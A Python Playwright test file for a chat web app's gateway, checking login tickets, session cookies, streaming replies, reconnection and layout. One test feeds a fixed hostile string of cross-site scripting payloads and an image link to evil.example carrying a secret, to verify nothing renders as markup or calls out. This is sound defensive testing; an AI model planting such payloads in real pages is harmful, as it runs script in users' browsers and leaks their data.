"""The web app in a real browser, on a real gateway and bus."""

import asyncio
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, expect

from browser import CONTRAST, chromium, needs_chromium, open_page, say, shoot, sign_in
from harness import BusServer
from opencrust_agent.card import card_text
from simulators.web import RunningGateway, approval, running_gateway

pytestmark = needs_chromium

MARKDOWN = """\
A **sourdough starter** is flour and water in which *wild yeast* and lactic acid bacteria live together.

### How to keep it

1. Take 50 g of it and feed it with 50 g flour and 50 g water.
2. Wait until it has doubled, some 4–8 hours at 24 °C.
3. Use it, or put it into the fridge:
   - feed it once a week there,
   - let it warm up before baking.

| ratio | time | taste |
| --- | --- | --- |
| 1:1:1 | 4 h | mild |
| 1:5:5 | 12 h | sour |

```python
def hydration(water: float, flour: float) -> float:
    return 100 * water / flour  # percent
```

> Smells like apples and yoghurt? Then it is ready. More at https://example.org/starter.
"""

HOSTILE = """\
<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>
[click](javascript:window.hacked=1) [data](data:text/html,x) ![pixel](https://evil.example/p.png?d=secret)
[good](https://example.org/a_(b)) `<b>code</b>` **<i>bold</i>** <https://example.org/auto>
"""


@pytest.fixture
async def gateway(bus_server: BusServer) -> AsyncIterator[RunningGateway]:
    async with running_gateway(bus_server) as running:
        await running.agent.serve_approvals()
        yield running


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as browser:
        yield browser


async def test_a_login_link_leads_to_the_chat_and_works_once(gateway: RunningGateway, browser: Browser) -> None:
    context, page, faults = await open_page(browser)
    ticket = await gateway.ticket()
    await page.goto(f"{gateway.url}/login#ticket={ticket}")
    await expect(page).to_have_url(f"{gateway.url}/")
    await expect(page.locator("#who")).to_have_text("operator")
    (cookie,) = await context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
    assert await page.evaluate("document.cookie") == ""
    assert faults == []

    _, second, _ = await open_page(browser)
    await second.goto(f"{gateway.url}/login#ticket={ticket}")
    await expect(second.locator("#error")).to_contain_text("was used already")
    assert "ticket" not in second.url


async def test_the_chat_page_wants_a_session(gateway: RunningGateway, browser: Browser) -> None:
    _, page, _ = await open_page(browser)
    await page.goto(f"{gateway.url}/")
    await expect(page).to_have_url(f"{gateway.url}/login")
    await expect(page.locator("#title")).to_have_text("Sign in")


async def test_an_answer_streams_in_and_stays(gateway: RunningGateway, browser: Browser) -> None:
    _, page, faults = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    gateway.agent.hold.clear()
    gateway.agent.model = "tiny offline demo model"
    await say(page, "hello there")
    await expect(page.locator(".reply.live .prose")).to_have_text("echo:")
    await expect(page.locator("#stop")).to_be_visible()
    gateway.agent.hold.set()
    await expect(page.locator(".reply .prose")).to_have_text("echo: hello there")
    await expect(page.locator(".badge.demo")).to_have_text("tiny offline demo model")
    await expect(page.locator("#stop")).to_be_hidden()
    await page.reload()
    await expect(page.locator(".said")).to_have_text("hello there")
    await expect(page.locator(".reply .prose")).to_have_text("echo: hello there")
    assert faults == []


async def test_a_question_is_shown_once_as_a_card(gateway: RunningGateway, browser: Browser) -> None:
    card = approval("operator", "k").card
    gateway.agent.card = card
    gateway.agent.answer = lambda message: f"I looked at it.\n\n{card_text(card)}"
    _, page, faults = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    await say(page, "mail it")
    await expect(page.locator(f".reply [data-approval={card.id}]")).to_contain_text("to: a@example.org")
    await expect(page.locator(".reply .prose")).to_have_text("I looked at it.")
    assert faults == []


async def test_stop_reaches_the_agent(gateway: RunningGateway, browser: Browser) -> None:
    _, page, _ = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    gateway.agent.hold.clear()
    await say(page, "go on for ever")
    await expect(page.locator(".reply.live .prose")).to_have_text("echo:")
    await page.locator("#stop").click()
    async with asyncio.timeout(3):
        while not gateway.agent.stops:
            await asyncio.sleep(0.02)
    (message,) = gateway.agent.seen
    assert gateway.agent.stops == [f"ctl.stop.web.{message.key}"]
    gateway.agent.hold.set()


async def test_nothing_in_a_message_becomes_markup(gateway: RunningGateway, browser: Browser) -> None:
    _, page, _ = await open_page(browser)
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url) if "example" in request.url else None)
    await sign_in(page, gateway.url, await gateway.ticket())
    gateway.agent.answer = lambda message: HOSTILE
    await say(page, HOSTILE)
    prose = page.locator(".reply .prose")
    await expect(prose).to_contain_text("bold")
    await page.wait_for_timeout(200)
    assert await page.evaluate("window.hacked") is None
    assert await prose.locator("img, script, iframe, b, i").count() == 0
    links = await prose.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert links == [
        "https://evil.example/p.png?d=secret",
        "https://example.org/a_(b)",
        "https://example.org/auto",
    ]
    assert outside == []


async def test_the_page_finds_back_after_the_bus_was_away(
    gateway: RunningGateway, browser: Browser, bus_server: BusServer
) -> None:
    _, page, _ = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    await say(page, "one")
    await expect(page.locator(".reply .prose")).to_have_text("echo: one")
    bus_server.restart()
    await say(page, "two")
    await expect(page.locator(".reply .prose")).to_have_text(["echo: one", "echo: two"], timeout=20_000)
    assert [message.text for message in gateway.agent.seen] == ["one", "two"]


async def test_a_second_tab_sees_what_the_first_says(gateway: RunningGateway, browser: Browser) -> None:
    context, page, _ = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    other = await context.new_page()
    await other.goto(gateway.url)
    await expect(other.locator("#state")).to_have_text("Connected")
    await expect(other.locator(".welcome")).to_be_visible()
    await say(page, "hi")
    await expect(other.locator(".said")).to_have_text("hi")
    await expect(other.locator(".reply .prose")).to_have_text("echo: hi")
    await expect(page.locator(".reply .prose")).to_have_count(1)


async def test_conversations_are_kept_apart(gateway: RunningGateway, browser: Browser) -> None:
    _, page, _ = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    await say(page, "about bread")
    await expect(page.locator(".reply .prose")).to_have_text("echo: about bread")
    await page.locator("#new").click()
    await expect(page.locator(".welcome")).to_be_visible()
    await say(page, "about tea")
    await expect(page.locator(".reply .prose")).to_have_text("echo: about tea")
    await page.locator(".pick", has_text="about bread").click()
    await expect(page.locator(".reply .prose")).to_have_text("echo: about bread")
    first, second = gateway.agent.seen
    assert first.key != second.key


async def test_signing_out_ends_the_session_everywhere(gateway: RunningGateway, browser: Browser) -> None:
    context, page, _ = await open_page(browser)
    await sign_in(page, gateway.url, await gateway.ticket())
    other = await context.new_page()
    await other.goto(gateway.url)
    await expect(other.locator("#state")).to_have_text("Connected")
    await page.locator("#logout").click()
    await expect(page).to_have_url(f"{gateway.url}/login")
    await expect(other).to_have_url(f"{gateway.url}/login", timeout=3_000)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("width", "height"), [(390, 844), (1280, 860)])
async def test_it_fits_the_screen(
    gateway: RunningGateway, browser: Browser, scheme: str, width: int, height: int
) -> None:
    _, page, faults = await open_page(
        browser, viewport={"width": width, "height": height}, color_scheme=scheme, device_scale_factor=1
    )
    name = f"{width}-{scheme}"
    await page.goto(f"{gateway.url}/login")
    await expect(page.locator("#link")).to_be_focused()
    await shoot(page, f"login-{name}")
    await sign_in(page, gateway.url, await gateway.ticket())
    await expect(page.locator(".welcome")).to_be_visible()
    await shoot(page, f"welcome-{name}")
    gateway.agent.answer = lambda message: MARKDOWN if "starter" in message.text else f"echo: {message.text}"
    gateway.agent.model = "tiny offline demo model"
    await say(page, "How do I keep a sourdough starter alive?")
    await expect(page.locator(".about")).to_be_visible()
    assert await page.evaluate(CONTRAST) == []
    await page.locator("#log").evaluate("log => log.scrollTo(0, 0)")
    await shoot(page, f"chat-{name}")
    gateway.agent.hold.clear()
    await say(page, "And what if I forget to feed it for a month, is it lost then?")
    await expect(page.locator(".reply.live .prose")).to_be_visible()
    await shoot(page, f"streaming-{name}")
    gateway.agent.hold.set()
    await expect(page.locator(".about")).to_have_count(2)
    assert await page.evaluate("document.documentElement.scrollWidth") <= width
    if width < 820:
        await page.locator("#menu").click()
        await expect(page.locator("#new")).to_be_focused()
        await page.wait_for_timeout(300)
        await shoot(page, f"menu-{name}")
        await page.keyboard.press("Escape")
        await expect(page.locator("#app")).not_to_have_class("app menu-open")
    assert [fault for fault in faults if "401" not in fault] == []
